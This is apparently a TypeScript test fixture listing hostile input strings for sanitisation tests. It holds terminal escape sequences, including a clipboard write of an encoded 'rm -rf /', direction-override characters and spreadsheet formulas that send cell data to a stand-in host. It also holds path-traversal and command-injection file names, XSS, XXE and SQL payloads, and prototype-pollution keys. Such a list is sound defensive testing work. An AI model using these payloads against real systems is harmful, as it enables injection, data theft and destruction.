/** Hostile strings, as a page's title, an agency, a file's name or a query may carry them. */

const range = (from: number, to: number): string[] => Array.from({ length: to - from + 1 }, (_, at) => String.fromCodePoint(from + at));

/** What terminals obey: colours, titles, the clipboard, answers that they type themselves, lines written over. */
export const TERMINAL = [
  '\u001b[31m红', '\u001b[2J\u001b[H', '\u001b]0;标题\u0007', '\u001b]52;c;cm0gLXJmIC8=\u0007', '\u001b]8;;http://evil.test\u001b\\点\u001b]8;;\u001b\\', '\u001bP$q"p\u001b\\', '\u001b[6n', '\u001b[c', '\u001bc',
  '\u001b[1A\u001b[2K成功', '\u009b31m', '\u009d0;x\u009c', '\u0090q\u009c', '\u008d', '年报\r伪造', '年报\b\b\b', '年\u0000报', '\u0007\u0007', '\u007f\u007f', '\u000e图\u000f', '\u001b[?1049h', '\u001b[20;1H',
];

/** Words that show otherwise than they read. */
export const DIRECTION = [
  '\u202e报年', '年\u202d报', '\u2066年报\u2069', '\u2067x', '\u2068x', '\u061c年', '\u200e年', '\u200f年', 'evil\u202egnp.exe', '年\u2028报', '年\u2029报', '\ufff9a\ufffab\ufffb', ...['\u{e0001}', '\u{e0041}\u{e007f}'].map((tag) => `年${tag}`),
];

/** Lines that a log or a table must not take for its own. */
export const LINES = ['标题\nnianbao: done', '标题\n\nRun 9: 0 requests', 'a\tb\tc', '年报\n0000000000000000  http://evil.test/'];

/** What spreadsheets run. */
export const FORMULAS = [
  '=1+1', '=cmd|\' /C calc\'!A0', '=HYPERLINK("http://evil.test?"&A1,"年报")', '+SUM(A1)', '-1+1', '@SUM(1)', '\t=1', '\r=1', '\n=1', '＝1+1', '＋1', '－1＋1', '＠x', ' =1', '\ufeff=1', '"=1', '=IMPORTXML("http://evil.test","//a")', '=WEBSERVICE("http://evil.test")',
  '%0A=1', ';=1', '=年报', '\u3000=1', '\u00a0=1', '\u200b=1',
];

/** Names that leave their folder, or that systems keep for themselves. */
export const NAMES = [
  '../../etc/passwd', '..\\..\\windows\\win.ini', '/etc/passwd', 'C:\\x', '\\\\server\\share', '..', '.', '', 'CON', 'con.txt', 'NUL', 'aux.pdf', 'COM1', 'lpt9.doc', '~root', '-rf', 'a\0.pdf', '年报.pdf\u202efdp.exe', 'x'.repeat(300), '长'.repeat(200),
  'a/../b', 'a:b', 'a*?"<>|b', 'name.', 'name ', '.htaccess', '$(id)', '`id`', ';rm -rf /', '%2e%2e%2f', '..%c0%af', 'manifest.json', '\ud800',
];

/** What breaks out of HTML, XML or scripts. */
export const MARKUP = [
  '<script>alert(1)</script>', '"><img src=x onerror=alert(1)>', '\'-alert(1)-\'', 'javascript:alert(1)', '<svg onload=alert(1)>', '</title><script>', '&lt;script&gt;', '<!--', ']]>', '{{constructor.constructor("x")()}}', '${7*7}', '<?php ?>', '<!ENTITY x SYSTEM "file:///etc/passwd">',
];

/** What breaks out of SQL and of the search index's own language. */
export const QUERIES = [
  '\'; DROP TABLE document; --', '" OR 1=1 --', '1; ATTACH DATABASE \'/tmp/x\' AS x', 'NEAR(年 报, 5)', 'title: 年', '年 AND', 'NOT 年', '年*', '^年', '(年', '"年', 'a\0b', '%', '_', '-', '*', '{title text}: 年', 'document_fts MATCH \'x\'', '年 OR', '年"', '\\', '/*', 'load_extension(\'x\')',
  '年'.repeat(5000), '"'.repeat(999), '('.repeat(999), `${'年 OR '.repeat(500)}报`,
];

/** Keys that pollute prototypes where objects are merged without care. */
export const KEYS = ['__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty', '__defineGetter__', 'valueOf'];

/** Numbers that are none, or too large. */
export const NUMBERS = ['1e999', '-1e999', '9'.repeat(400), '0x1F', 'NaN', 'Infinity', '1e-999', '９９９９９', '١٢٣', '1,2,3,4', '0.1.2', '--1', '1\u0000'];

export const HOSTILE: readonly string[] = [...new Set([...TERMINAL, ...DIRECTION, ...LINES, ...FORMULAS, ...NAMES, ...MARKUP, ...QUERIES, ...KEYS, ...NUMBERS])];

/** Everything that a terminal obeys or that turns the reading direction. */
export const OBEYED: ReadonlySet<string> = new Set([
  ...range(0, 8), ...range(0xb, 0x1f), ...range(0x7f, 0x9f), '\u061c', '\u200e', '\u200f', ...range(0x2028, 0x202e), ...range(0x2066, 0x2069), ...range(0xfff9, 0xfffb), ...range(0xe0000, 0xe007f),
]);
